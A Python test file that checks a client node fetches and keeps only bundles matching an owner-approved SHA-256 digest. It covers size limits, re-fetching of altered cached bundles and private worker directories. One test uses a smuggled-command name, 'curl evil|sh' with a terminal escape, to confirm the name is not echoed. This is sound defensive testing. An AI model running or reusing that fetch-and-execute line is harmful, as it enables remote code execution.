"""Only the very bytes that the owner approved are fetched and kept."""

from __future__ import annotations

import hashlib
import stat

import pytest

from client.node.bundles import SIZE_LIMIT, approved_bundle, make_room
from client.node.home import SiteHome
from shared.errors import SiteError

CONTENT = b"a bundle"
DIGEST = hashlib.sha256(CONTENT).hexdigest()


def never() -> bytes:
    raise AssertionError("asked for the bundle")


@pytest.mark.parametrize(
    "sent", [CONTENT + b" ", CONTENT[:-1], b"", bytes(SIZE_LIMIT + 1)], ids=len
)
def test_other_bytes_than_the_approved_ones_are_refused(made_home: SiteHome, sent: bytes) -> None:
    with pytest.raises(SiteError, match="another bundle") as caught:
        approved_bundle(made_home, DIGEST, lambda: sent)
    assert "/" not in caught.value.shareable
    assert not made_home.bundles.exists()


def test_a_bundle_that_is_too_large_is_refused_though_approved(made_home: SiteHome) -> None:
    sent = bytes(SIZE_LIMIT + 1)
    with pytest.raises(SiteError):
        approved_bundle(made_home, hashlib.sha256(sent).hexdigest(), lambda: sent)


def test_an_approved_bundle_is_fetched_once(made_home: SiteHome) -> None:
    assert approved_bundle(made_home, DIGEST, lambda: CONTENT) == CONTENT
    assert approved_bundle(made_home, DIGEST, never) == CONTENT


def test_a_kept_bundle_that_was_altered_is_fetched_anew(made_home: SiteHome) -> None:
    approved_bundle(made_home, DIGEST, lambda: CONTENT)
    (made_home.bundles / f"{DIGEST}.fab").write_bytes(b"altered")
    assert approved_bundle(made_home, DIGEST, lambda: CONTENT) == CONTENT
    assert approved_bundle(made_home, DIGEST, never) == CONTENT


def test_a_name_that_is_no_digest_is_not_shown(made_home: SiteHome) -> None:
    name = "aa\x1b[2J; curl evil|sh #"
    with pytest.raises(SiteError) as caught:
        approved_bundle(made_home, name, lambda: CONTENT)
    assert "curl" not in str(caught.value) + caught.value.shareable


def test_a_worker_gets_an_empty_private_room_and_leaves_none_behind(made_home: SiteHome) -> None:
    approved_bundle(made_home, DIGEST, lambda: CONTENT)
    unpacked = made_home.bundles / DIGEST  # by a version before
    unpacked.mkdir()
    (unpacked / "evil.py").touch()
    first = make_room(made_home)
    (first / "left").touch()
    second = make_room(made_home)
    assert first != second
    assert list(second.iterdir()) == []
    assert stat.S_IMODE(second.stat().st_mode) == 0o700
    assert sorted(made_home.bundles.iterdir()) == sorted(
        [second, made_home.bundles / f"{DIGEST}.fab"]
    )
